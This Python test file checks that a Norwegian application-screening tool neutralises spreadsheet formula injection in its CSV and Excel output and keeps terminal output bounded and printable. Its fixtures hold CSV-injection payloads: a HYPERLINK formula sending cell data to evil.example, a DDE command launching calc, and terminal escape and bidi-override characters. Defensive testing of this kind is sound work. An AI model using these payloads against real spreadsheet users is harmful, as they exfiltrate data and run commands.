"""What coordinators open: CSV and Excel files that Excel cannot be tricked into running, and bounded,
printable output on hostile input (a huge file, a UTF-16 or binary file, a header with no rows, an --out
that is a file). Issue 12, items 5 and 7; real municipalities on the embedded snapshot."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from samfunn_data import screening
from samfunn_data.cli import main
from samfunn_data.commands.screen import MAX_PRINTED_ERRORS
from samfunn_data.config import PROJECT_ROOT
from samfunn_data.screening import applications
from samfunn_data.screening.page import MAX_PAGE_ERRORS
from samfunn_data.screening.spreadsheets import neutralised
from tests.report_fixtures import SNAPSHOT, built_data_dir, environment

EXAMPLE = PROJECT_ROOT / "examples" / "applications_example.csv"
HEADER = ",".join(applications.COLUMNS)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klikk her")'
DDE = "+cmd|' /C calc'!A0"
# What a terminal must never receive from a user's file: C0/C1 controls and bidirectional overrides.
UNPRINTABLE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture(scope="module", autouse=True)
def fact_base(tmp_path_factory):
    with environment(SAMFUNN_DATA_DIR=built_data_dir(), SAMFUNN_SNAPSHOT_DIR=SNAPSHOT,
                     SAMFUNN_REPORTS_DIR=tmp_path_factory.mktemp("reports")):
        yield


def _write(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([list(applications.COLUMNS), *rows])
    return path


def _read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """Two valid applications and two invalid rows, every free-text field a formula."""
    folder = tmp_path_factory.mktemp("hostile")
    source = _write(folder / "soknader.csv", [
        ["Tydal", "2014", HYPERLINK, "ja", "0,5", "@SUM(1+1)*cmd|' /C calc'!A0"],
        ["5026", "2016", DDE, "nei", "50 %", "-Kari Nordmann"],
        [HYPERLINK, "2015", "Planstrategi 2020", "ja", "0,5", "Ola"],
        ["Træna", "2015", "Planstrategi 2020", "=1+1", "0,5", "Ola"],
    ])
    return screening.screen_file(source, 2020, folder / "out")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_formula_text_is_neutralised_in_both_csv_files(hostile):
    rows = {r["kommune"]: r for r in _read_csv(hostile.paths["csv"])}
    assert rows["Tydal"]["framdriftsplan"] == "'" + HYPERLINK
    assert rows["Tydal"]["kontaktperson"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows["Holtålen"]["framdriftsplan"] == "'" + DDE
    assert rows["Holtålen"]["kontaktperson"] == "'-Kari Nordmann"
    errors = _read_csv(hostile.paths["errors_csv"])
    assert [e["rad"] for e in errors] == ["4", "5"]
    assert errors[0]["kommune"].startswith("'=HYPERLINK(")
    for table in (list(rows.values()), errors):
        for row in table:
            # a negative number in a numeric column (e.g. netto driftsresultat) is a number, not a formula
            assert not any(v.startswith(FORMULA_STARTS) and not _is_number(v) for v in row.values()), row
    # numeric columns stay numbers: Excel must still be able to sort and sum them
    assert rows["Tydal"]["folketall"] == "769" and rows["Holtålen"]["personellressurs_arsverk"] == "0.5"


def test_a_negative_number_stays_a_number_but_negative_text_is_quoted():
    frame = pd.DataFrame({"endring": pd.array([-12, 3], dtype="Int64"), "andel": [-0.5, 1.0],
                          "tekst": ["-12", "Tydal"]})
    out = neutralised(frame)
    assert out["endring"].tolist() == [-12, 3] and out["andel"].tolist() == [-0.5, 1.0]
    assert out["tekst"].tolist() == ["'-12", "Tydal"]


def test_csv_files_are_comma_separated_utf8_with_bom_so_excel_reads_aeoa(hostile):
    for key in ("csv", "errors_csv"):
        raw = hostile.paths[key].read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf")
        assert raw[3:].decode("utf-8").splitlines()[0].count(",") >= 3
    text = hostile.paths["csv"].read_bytes().decode("utf-8-sig")
    assert "Holtålen" in text and "Trøndelag" in text


def test_the_workbook_holds_both_tables_as_text_and_numbers_never_formulas(hostile):
    book = openpyxl.load_workbook(hostile.paths["xlsx"])
    assert book.sheetnames == ["Søknader", "Feil"]
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    sheet = book["Søknader"]
    header = [c.value for c in sheet[1]]
    rows = {r[header.index("kommune")]: dict(zip(header, r, strict=True))
            for r in sheet.iter_rows(min_row=2, values_only=True)}
    # exactly what the applicant wrote (no quote added), stored as a string cell
    assert rows["Tydal"]["framdriftsplan"] == HYPERLINK
    assert rows["Holtålen"]["kontaktperson"] == "-Kari Nordmann"
    assert rows["Tydal"]["folketall"] == 769 and rows["Holtålen"]["personellressurs_arsverk"] == 0.5
    errors = list(book["Feil"].iter_rows(min_row=2, values_only=True))
    assert [e[0] for e in errors] == [4, 5] and errors[0][1].startswith("=HYPERLINK(")


def test_cli_names_the_workbook(tmp_path, capsys):
    assert main(["screen", str(EXAMPLE), "--year", "2020", "--out", str(tmp_path)]) == 0
    out = capsys.readouterr().out
    assert str(tmp_path / "screening.xlsx") in out and (tmp_path / "screening.xlsx").stat().st_size > 0
    assert str(tmp_path / "screening.claims.json") in out  # every file written is named


# ---------------------------------------------------------------- item 7: bounded, printable output


def test_thousands_of_bad_rows_print_a_bounded_list_and_the_csv_keeps_all(tmp_path, capsys):
    n = 3000
    source = _write(tmp_path / "stor.csv", [["Tydal", "2014", "Plan", "kanskje", "0,5", "Ola"]] * n)
    out = tmp_path / "out"
    assert main(["screen", str(source), "--year", "2020", "--out", str(out)]) == 3
    err = capsys.readouterr().err.splitlines()
    listed = [line for line in err if line.startswith("  rad ")]
    assert len(listed) == MAX_PRINTED_ERRORS and len(err) == MAX_PRINTED_ERRORS + 2
    more = re.fullmatch(r"  … og ([\d\u202f\u00a0 ]+) flere feil \(se (.+)\)", err[-1])
    assert more and int(re.sub(r"\D", "", more[1])) == n - MAX_PRINTED_ERRORS
    assert more[2] == str(out / "screening_errors.csv")
    assert len(_read_csv(out / "screening_errors.csv")) == n
    page = (out / "screening.html").read_text(encoding="utf-8")
    assert page.count("har_statistikk</td>") == MAX_PAGE_ERRORS
    assert re.search(r"… og 2[\u202f ]800 flere feil", page)
    assert len(page) < 200_000  # the whole page, not 3000 rows of it


def _utf16_variants(tmp_path: Path):
    text = EXAMPLE.read_text(encoding="utf-8")
    with_bom = tmp_path / "unicode.csv"
    with_bom.write_text(text, encoding="utf-16")  # what Excel's "Unicode text" writes
    without_bom = tmp_path / "utf16le.csv"
    without_bom.write_bytes(text.encode("utf-16-le"))
    return with_bom, without_bom


def test_utf16_files_are_read_like_utf8(tmp_path):
    expected = screening.read_applications(EXAMPLE, 2020)
    for path in _utf16_variants(tmp_path):
        result = screening.read_applications(path, 2020)
        assert result.applications == expected.applications and not result.errors


@pytest.mark.parametrize("content, expected", [
    (bytes(range(256)) * 40, "ser ikke ut som en tekstfil"),
    (b"kommune\x00,\x01\x02" * 500, "ser ikke ut som en tekstfil"),
    (b"PK\x03\x04\x14\x00\x06\x00" + bytes(200), "ser ut som en Excel-fil"),
])
def test_a_binary_file_is_refused_in_one_printable_line(tmp_path, capsys, content, expected):
    path = tmp_path / "soknader.csv"
    path.write_bytes(content)
    assert main(["screen", str(path), "--year", "2020", "--out", str(tmp_path / "out")]) == 1
    err = capsys.readouterr().err
    assert expected in err and "Traceback" not in err
    assert not UNPRINTABLE.search(err) and err.count("\n") == 1


def test_control_characters_and_runaway_cells_never_reach_the_terminal(tmp_path, capsys):
    long_cell = "Tydal" + "x" * 5000
    source = _write(tmp_path / "s.csv", [
        ["Træna", "2015", "Plan", "ja\x1b[2J\x07", "0,5", "Ola"],
        ["\u202eladyT", "2015", "Plan", "ja", "0,5", "Ola"],
        [long_cell, "2015", "Plan", "ja", "0,5", "Ola"],
        ["Tydal", "2014", "Plan", "ja", "0,5", "Kari"],
    ])
    assert main(["screen", str(source), "--year", "2020", "--out", str(tmp_path / "out")]) == 3
    captured = capsys.readouterr()
    assert not UNPRINTABLE.search(captured.err) and not UNPRINTABLE.search(captured.out)
    assert "Vurderte 1 søknad" in captured.out  # Tydal still screened
    assert max(len(line) for line in captured.err.splitlines()) < 400
    errors = _read_csv(tmp_path / "out" / "screening_errors.csv")
    assert len(errors) == 3 and not any(UNPRINTABLE.search(v) for e in errors for v in e.values())


def test_a_file_with_a_header_and_no_rows_warns_and_exits_3(tmp_path, capsys):
    path = tmp_path / "tom.csv"
    path.write_text(HEADER + "\n\n,,,,,\n", encoding="utf-8")  # blank lines and empty cells only
    out = tmp_path / "out"
    assert main(["screen", str(path), "--year", "2020", "--out", str(out)]) == 3
    captured = capsys.readouterr()
    assert "Vurderte 0 søknader" in captured.out
    assert "ingen søknader" in captured.err and "riktig fil" in captured.err
    assert "Filen har ingen søknader" in (out / "screening.html").read_text(encoding="utf-8")


def test_out_that_is_a_file_is_a_clear_error_and_the_file_is_untouched(tmp_path, capsys):
    target = tmp_path / "resultat.txt"
    target.write_text("mine notater", encoding="utf-8")
    for out in (target, target / "undermappe"):
        assert main(["screen", str(EXAMPLE), "--year", "2020", "--out", str(out)]) == 1
        err = capsys.readouterr().err
        assert f"{target} er en fil, ikke en mappe" in err and "Traceback" not in err
    assert target.read_text(encoding="utf-8") == "mine notater"

